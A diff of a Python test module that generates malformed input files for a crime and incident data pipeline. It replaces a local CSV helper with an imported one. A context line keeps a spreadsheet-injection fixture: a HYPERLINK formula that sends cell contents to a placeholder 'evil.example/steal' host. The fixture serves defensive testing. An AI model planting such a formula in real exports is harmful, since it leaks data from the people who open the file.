@@ -17,28 +17,17 @@ policy, a negative victim count, an unknown opening code and qualifier, a row of
 
 from __future__ import annotations
 
-import csv
-import io
 import sys
 from collections.abc import Callable
 from pathlib import Path
 
 from tests.conftest import FORCE, crime, incident, referral
+from tests.conftest import export_text as _csv
 from pipelines.contract import SOURCES
 
 CORPUS_DIR = Path(__file__).resolve().parent / "corpus"
 MEBIBYTE = 1024 * 1024
 FORMULA = '=HYPERLINK("http://evil.example/steal?d="&A1,"Click for details")'
-
-
-def _csv(source: str, rows: list[dict], columns: list[str] | None = None) -> str:
-    header = columns or list(SOURCES[source].column_names)
-    buffer = io.StringIO(newline="")
-    writer = csv.writer(buffer, lineterminator="\r\n")
-    writer.writerow(header)
-    for row in rows:
-        writer.writerow([row.get(name, "") for name in header])
-    return buffer.getvalue()
 
 
 def _utf8(source: str, rows: list[dict], columns: list[str] | None = None) -> bytes:
